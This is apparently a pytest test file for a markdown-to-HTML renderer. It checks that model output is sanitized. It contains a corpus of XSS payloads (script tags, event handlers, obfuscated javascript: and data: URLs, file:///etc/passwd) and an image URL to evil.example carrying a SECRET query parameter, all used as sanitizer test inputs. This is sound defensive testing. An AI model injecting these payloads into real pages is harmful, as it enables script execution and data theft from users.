"""render.py: model markdown becomes safe HTML; reasoning, notice and footer outputs."""

from __future__ import annotations

import html
import re
import subprocess
import sys
from html.parser import HTMLParser

import pytest

from routing_magics.display.render import (
    FooterInfo,
    bundle,
    escape,
    footer_html,
    footer_text,
    is_safe_url,
    markdown_to_html,
    notice_html,
    reasoning_html,
)

ACTIVE_ELEMENTS = {"script", "iframe", "object", "embed", "style", "svg", "math", "frame", "form"}
INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f]+")
RASTER_DATA = re.compile(r"data:image/(png|gif|jpeg|webp)[;,]")


class ElementCollector(HTMLParser):
    """Every start tag with its (entity-decoded) attributes, as a browser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))


def elements(markup: str) -> list[tuple[str, dict[str, str]]]:
    collector = ElementCollector()
    collector.feed(markup)
    collector.close()
    return collector.elements


def url_problem(tag: str, attr: str, url: str) -> str | None:
    flat = INVISIBLE.sub("", html.unescape(url)).lower()
    scheme = flat.split(":", 1)[0] if re.match(r"[a-z][a-z0-9+.\-]*:", flat) else ""
    if scheme in ("javascript", "vbscript", "file"):
        return f"{tag} {attr}={url!r}"
    if scheme == "data" and not (tag == "img" and RASTER_DATA.match(flat)):
        return f"{tag} {attr}={url!r}"
    return None


def active_content(markup: str) -> list[str]:
    """What in `markup` could run code or load a forbidden URL: an empty list when safe."""
    problems = []
    for tag, attrs in elements(markup):
        if tag in ACTIVE_ELEMENTS:
            problems.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on"):
                problems.append(f"{tag} {name}=")
            if name in ("href", "src", "action", "formaction", "xlink:href"):
                problem = url_problem(tag, name, value)
                if problem:
                    problems.append(problem)
    return problems


XSS_CORPUS = [
    "<script>alert(1)</script>",
    "before <script>alert(1)</script> after",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    '<iframe src="https://evil.example"></iframe>',
    "<object data=x></object><embed src=x>",
    "<style>body{display:none}</style>",
    '<a href="javascript:alert(1)">raw link</a>',
    '<div onclick="alert(1)" onmouseover=alert(2)>hover</div>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x]( vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "[ref link][r]\n\n[r]: javascript:alert(1)",
    '[t](https://ok.example "title" onmouseover="alert(1)")',
    "```html\n<script>alert(1)</script>\n```",
    '```python" onclick="alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "| a | b |\n|---|---|\n| <script>x</script> | <img src=x onerror=alert(1)> |",
    "- [ ] <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "$<script>alert(1)</script>$ and \\[<img src=x onerror=alert(1)>\\]",
]


@pytest.mark.parametrize("text", XSS_CORPUS)
def test_xss_corpus_renders_without_active_content(text: str) -> None:
    assert active_content(markdown_to_html(text)) == []


def test_the_checker_itself_catches_active_content() -> None:
    unsafe = '<p onclick="x"><a href=" JaVa&#x09;script:x">a</a><script></script></p>'
    assert len(active_content(unsafe)) == 3


def test_raw_html_is_shown_as_text() -> None:
    out = markdown_to_html("Use <script>alert(1)</script> carefully")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out
    assert [tag for tag, _ in elements(out)] == ["div", "p"]


def test_entity_encoded_markup_stays_text() -> None:
    out = markdown_to_html("&lt;script&gt;")
    assert "&lt;script&gt;" in out
    assert "script" not in [tag for tag, _ in elements(out)]


@pytest.mark.parametrize(
    "text",
    ["[x](javascript:alert(1))", "[x](jav&#x09;ascript:alert(1))", "[x](JaVaScRiPt:alert(1))"],
)
def test_dangerous_links_are_not_links(text: str) -> None:
    assert "a" not in [tag for tag, _ in elements(markdown_to_html(text))]


def test_links_open_safely_in_a_new_tab() -> None:
    [(_, _), (_, _), (tag, attrs)] = elements(markdown_to_html("[docs](https://routing.run/docs)"))
    assert tag == "a"
    assert attrs == {
        "href": "https://routing.run/docs",
        "rel": "noopener noreferrer nofollow",
        "target": "_blank",
    }


def test_data_urls_only_for_raster_images() -> None:
    image = dict(elements(markdown_to_html("![dot](data:image/png;base64,iVBORw0KGgo=)")))
    assert image["img"]["src"] == "data:image/png;base64,iVBORw0KGgo="
    link = dict(elements(markdown_to_html("[dot](data:image/png;base64,iVBORw0KGgo=)")))
    assert "href" not in link["a"]


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " \tjavascript:alert(1)",
        "java\nscript:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "jav%09ascript:alert(1)",
        "%6Aavascript:alert(1)",
        "&#106;avascript:alert(1)",
        "javascript&colon;alert(1)",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/svg+xml,<svg/>",
        "jar:https://x!/",
    ],
)
def test_unsafe_urls_are_refused(url: str) -> None:
    assert not is_safe_url(url, image=True)


@pytest.mark.parametrize(
    "url", ["https://x.org/a?b=c#d", "http://x", "mailto:a@b.c", "/relative/path", "#frag", "a.png"]
)
def test_ordinary_urls_pass(url: str) -> None:
    assert is_safe_url(url)


def test_raster_data_url_only_passes_as_an_image() -> None:
    assert is_safe_url("data:image/webp;base64,AAAA", image=True)
    assert not is_safe_url("data:image/webp;base64,AAAA", image=False)


def test_gfm_table() -> None:
    out = markdown_to_html("| a | b |\n|---|--:|\n| 1 | 2 |")
    tags = [tag for tag, _ in elements(out)]
    assert tags[:2] == ["div", "table"]
    assert tags.count("td") == 2


def test_fenced_code_has_language_class() -> None:
    out = markdown_to_html("```python\nprint('<hi>')\n```")
    assert '<pre><code class="language-python">' in out
    assert "&lt;hi&gt;" in out


def test_fence_language_cannot_break_out_of_the_attribute() -> None:
    tags = elements(markdown_to_html('```py" onclick="alert(1)\nx\n```'))
    code = [attrs for tag, attrs in tags if tag == "code"]
    assert code == [{"class": 'language-py"'}]


def test_strikethrough() -> None:
    assert re.search(r"<(s|del)>gone</(s|del)>", markdown_to_html("~~gone~~"))


def test_task_list_checkboxes_are_disabled() -> None:
    inputs = [
        attrs
        for tag, attrs in elements(markdown_to_html("- [ ] todo\n- [x] done"))
        if tag == "input"
    ]
    assert len(inputs) == 2
    assert all(attrs["type"] == "checkbox" and "disabled" in attrs for attrs in inputs)
    assert ["checked" in attrs for attrs in inputs] == [False, True]


def test_dollar_amounts_stay_text() -> None:
    assert "<p>It costs $5 and $10 today.</p>" in markdown_to_html("It costs $5 and $10 today.")


def test_math_is_left_verbatim_for_mathjax() -> None:
    out = markdown_to_html(r"Area $a*b*c$ and $x^2_i$ and \(a_1*b\) and \[ \frac{1}{2} \\ x \]")
    assert r"$a*b*c$" in out
    assert r"\(a_1*b\)" in out
    assert r"\[ \frac{1}{2} \\ x \]" in out
    assert "<em>" not in out


def test_display_math_spanning_lines() -> None:
    out = markdown_to_html("$$\n\\sum_i *x_i* \\\\ y\n$$")
    assert "$$\n\\sum_i *x_i* \\\\ y\n$$" in out


def test_no_footnote_ids_that_would_collide_between_answers() -> None:
    out = markdown_to_html("Text[^1] and [^2]\n\n[^1]: note")
    assert "footnote" not in out
    assert all("id" not in attrs for _, attrs in elements(out))


def test_answer_is_wrapped_in_a_stable_div() -> None:
    out = markdown_to_html("hi")
    assert out.startswith('<div class="routing-magics-answer">')
    assert out.endswith("</div>")


def test_escape() -> None:
    assert (
        escape("<a href=\"x\">'&'</a>") == "&lt;a href=&quot;x&quot;&gt;&#x27;&amp;&#x27;&lt;/a&gt;"
    )


def test_reasoning_open_and_collapsed() -> None:
    live = reasoning_html("think <b>", open=True)
    assert live.startswith('<details class="routing-magics-reasoning" open>')
    assert "think &lt;b&gt;" in live and "white-space:pre-wrap" in live
    done = reasoning_html("think", open=False, tokens=1234, seconds=3.45)
    assert "<details" in done and " open" not in done
    assert "<summary>Reasoning · 1,234 tokens · 3.5 s</summary>" in done


def test_notice_is_escaped() -> None:
    out = notice_html("bad <b>thing</b>")
    assert "bad &lt;b&gt;thing&lt;/b&gt;" in out and 'class="routing-magics-notice"' in out


def test_footer_text() -> None:
    info = FooterInfo(
        model="route/mistral-small-2503",
        provider="routing-inference",
        latency_ms=1234,
        prompt_tokens=120,
        completion_tokens=340,
        estimated=False,
        notebook_total_tokens=2410,
        offline=False,
    )
    assert footer_text(info) == (
        "route/mistral-small-2503 · routing-inference · 1.2 s · 120 in / 340 out · "
        "notebook total 2,410 tokens"
    )


def test_footer_marks_offline_estimated_and_stopped() -> None:
    info = FooterInfo("route/x", None, 85, 10, 2, True, None, True, status="stopped")
    assert footer_text(info) == (
        "route/x · 85 ms · 10 in / 2 out (estimated) · offline emulator · stopped"
    )


def test_footer_html_is_escaped() -> None:
    info = FooterInfo("route/<x>", "p&q", None, 1, 2, False, 3, False)
    out = footer_html(info)
    assert "route/&lt;x&gt; · p&amp;q" in out and 'class="routing-magics-footer ' in out
    assert active_content(out) == []


def test_bundle_is_plain_and_html_never_markdown() -> None:
    data, meta = bundle("raw *md*", "<p>x</p>", {"routing_magics": {"model": "m"}})
    assert data == {"text/plain": "raw *md*", "text/html": "<p>x</p>"}
    assert meta == {"routing_magics": {"model": "m"}}
    assert bundle("a", "b") == ({"text/plain": "a", "text/html": "b"}, {})


def test_importing_stays_cheap() -> None:
    code = (
        "import sys, routing_magics.display.render, routing_magics.display.live; "
        "print('markdown_it' in sys.modules, 'mdit_py_plugins' in sys.modules, "
        "'IPython' in sys.modules)"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.split() == ["False", "False", "False"]


def test_remote_images_become_links_so_nothing_loads_by_itself() -> None:
    html = markdown_to_html("![chart](https://evil.example/x?d=SECRET)")
    assert "<img" not in html
    assert 'href="https://evil.example/x?d=SECRET"' in html and "chart" in html
    inline = markdown_to_html("![dot](data:image/png;base64,iVBORw0KGgo=)")
    assert '<img src="data:image/png;base64,iVBORw0KGgo="' in inline
